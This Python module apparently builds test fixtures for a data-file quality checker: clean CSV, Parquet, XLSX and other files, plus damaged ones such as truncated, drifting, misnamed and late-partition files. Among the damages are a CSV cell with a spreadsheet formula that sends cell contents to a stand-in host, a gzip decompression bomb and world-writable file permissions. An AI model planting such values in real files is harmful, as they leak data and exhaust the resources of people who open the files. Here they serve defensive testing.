"""A folder of files: clean ones as a careful producer leaves them, and one for each damage."""

import gzip
import hashlib
import importlib
import json
import os
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any, cast

import pyarrow as pa
import pyarrow.parquet as pq

ROWS = 200
#: The day of the first partition; the last of twenty is that of yesterday.
FIRST_DAY = datetime.now(UTC).date() - timedelta(days=20)
TYPES: dict[str, pa.DataType] = {
    "order_id": pa.int64(),
    "customer": pa.string(),
    "amount": pa.decimal128(12, 2),
    "created_at": pa.timestamp("us", tz="UTC"),
}
_NAMES = ("Ada", "Grace", "Edsger", "Barbara", "Donald")


def rows(count: int = ROWS, *, start: int = 0) -> list[dict[str, object]]:
    """Orders with a key, an amount, a name and a time."""
    begin = datetime.now(UTC).replace(microsecond=0) - timedelta(days=2)
    return [
        {
            "order_id": start + n,
            "customer": _NAMES[n % 5],
            "amount": round(1.5 * (n % 97) + 0.25, 2),
            "created_at": (begin + timedelta(minutes=7 * n)).isoformat(),
        }
        for n in range(count)
    ]


def _typed(value: object, kind: pa.DataType) -> object:
    if pa.types.is_decimal(kind):
        return Decimal(str(value))
    return datetime.fromisoformat(str(value)) if pa.types.is_timestamp(kind) else value


def csv_bytes(lines: list[dict[str, object]], *, delimiter: str = ",") -> bytes:
    names = list(lines[0])
    text = [delimiter.join(names)]
    text += [delimiter.join(str(line[name]) for name in names) for line in lines]
    return ("\n".join(text) + "\n").encode()


def parquet(path: Path, lines: list[dict[str, object]], **columns: pa.DataType) -> None:
    """Columns with the types that a careful producer gives them, or with those that are given."""
    kinds = TYPES | columns
    names = list(lines[0])
    arrays = [pa.array([_typed(line[n], kinds[n]) for line in lines], kinds[n]) for n in names]
    path.parent.mkdir(parents=True, exist_ok=True)
    cast("Any", pq).write_table(pa.table(arrays, names=names), path)


def clean(folder: Path) -> None:
    """Every format that is read, nothing wrong with any of it, closed to other users."""
    folder.mkdir(mode=0o700, exist_ok=True)
    (folder / "orders.csv").write_bytes(csv_bytes(rows()))
    (folder / "orders_packed.csv.gz").write_bytes(gzip.compress(csv_bytes(rows())))
    (folder / "events.ndjson").write_bytes(
        b"".join(json.dumps(r | {"tags": ["a", "b"]}).encode() + b"\n" for r in rows())
    )
    (folder / "customers.json").write_text(json.dumps(rows(50)))
    (folder / "prices.xml").write_text(
        f"<prices>{''.join(f'<p><sku>s{n}</sku><eur>{n}.5</eur></p>' for n in range(50))}</prices>"
    )
    parquet(folder / "stock.parquet", rows())
    workbook: Any = importlib.import_module("openpyxl").Workbook()
    sheet = workbook.active
    sheet.append(["order_id", "amount"])
    for number in range(50):
        sheet.append([number, number * 1.5])
    workbook.save(folder / "export.xlsx")
    with zipfile.ZipFile(folder / "bundle.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("returns.csv", csv_bytes(rows(40)))
        archive.writestr("refunds.csv", csv_bytes(rows(30)))
    daily(folder / "sales", range(20))
    checksum(folder / "orders.csv")
    (folder / "sales" / "_SUCCESS").touch()
    close(folder)


def daily(folder: Path, days: range | list[int]) -> None:
    """A Hive folder with a partition a day, each written two hours after its day."""
    for day in days:
        when = FIRST_DAY + timedelta(days=day)
        path = folder / f"day={when.isoformat()}" / "part-0000.parquet"
        parquet(path, rows(20, start=20 * day))
        written = datetime(when.year, when.month, when.day, 2, tzinfo=UTC) + timedelta(days=1)
        os.utime(path, (written.timestamp(), written.timestamp()))


def checksum(path: Path, digest: str = "") -> None:
    made = digest or hashlib.sha256(path.read_bytes()).hexdigest()
    path.with_name(f"{path.name}.sha256").write_text(f"{made}  {path.name}\n")


def close(folder: Path) -> None:
    """No other user may read or write anything in it."""
    for path in [folder, *folder.rglob("*")]:
        path.chmod(0o700 if path.is_dir() else 0o600)


# ------------------------------------------------------------------------------- damages


def formula(folder: Path) -> None:
    lines = rows()
    lines[7]["customer"] = '=HYPERLINK("http://x.example/?"&A1)'
    (folder / "formula.csv").write_bytes(csv_bytes(lines))


def bomb(folder: Path) -> None:
    (folder / "bomb.csv.gz").write_bytes(gzip.compress(b"a,b\n" + b"1,2\n" * 25_000_000))


def truncated(folder: Path) -> None:
    parquet(folder / "cut.parquet", rows())
    whole = (folder / "cut.parquet").read_bytes()
    (folder / "cut.parquet").write_bytes(whole[: len(whole) // 2])


def truncated_gzip(folder: Path) -> None:
    packed = gzip.compress(csv_bytes(rows(200_000)))
    (folder / "cut.csv.gz").write_bytes(packed[: len(packed) // 2])


def other_bytes(folder: Path) -> None:
    (folder / "changed.csv").write_bytes(csv_bytes(rows()))
    checksum(folder / "changed.csv", "0" * 64)


def drift(folder: Path) -> None:
    for number in range(4):
        parquet(folder / f"lines_{number}.parquet", rows())
    parquet(folder / "lines_4.parquet", [r | {"amount": str(r["amount"])} for r in rows()],
            amount=pa.string())  # fmt: skip


def encodings(folder: Path) -> None:
    lines = [r | {"customer": f"Zoë Müller {n}"} for n, r in enumerate(rows())]
    (folder / "names_1.csv").write_bytes(csv_bytes(lines))
    (folder / "names_2.csv").write_bytes(csv_bytes(lines).decode().encode("latin-1"))


def ragged(folder: Path) -> None:
    data = csv_bytes(rows()).splitlines(keepends=True)
    data[50] = b"50,Smith, John,3.5,2026-10-01T00:00:00+00:00\n"
    (folder / "ragged.csv").write_bytes(b"".join(data))


def twins(folder: Path) -> None:
    (folder / "twins.csv").write_bytes(b"id,amount,amount\n" + b"1,2,3\n" * 50)


def gap(folder: Path) -> None:
    daily(folder / "gap", [d for d in range(20) if d not in {4, 11}])


def late(folder: Path) -> None:
    daily(folder / "late", range(20))
    day = FIRST_DAY + timedelta(days=5)
    path = folder / "late" / f"day={day.isoformat()}" / "part-0000.parquet"
    after = path.stat().st_mtime + 9 * 86_400
    os.utime(path, (after, after))


def misnamed(folder: Path) -> None:
    parquet(folder / "really_parquet.csv", rows())


def open_to_all(folder: Path) -> None:
    folder.chmod(0o777)
    (folder / "open.csv").write_bytes(csv_bytes(rows()))
    (folder / "open.csv").chmod(0o666)


#: The check that each of them must make fail.
DAMAGES: dict[str, Callable[[Path], None]] = {
    "security.formula-injection": formula,
    "security.decompression-ratio": bomb,
    "security.data-file-permissions": open_to_all,
    "reliability.file-damage": truncated,
    "reliability.checksum-agreement": other_bytes,
    "data_management.schema-drift": drift,
    "data_management.text-encoding": encodings,
    "data_management.row-shape": ragged,
    "data_management.header-names": twins,
    "dataops.partition-sequence": gap,
    "dataops.partition-delay": late,
    "software_engineering.file-endings": misnamed,
}
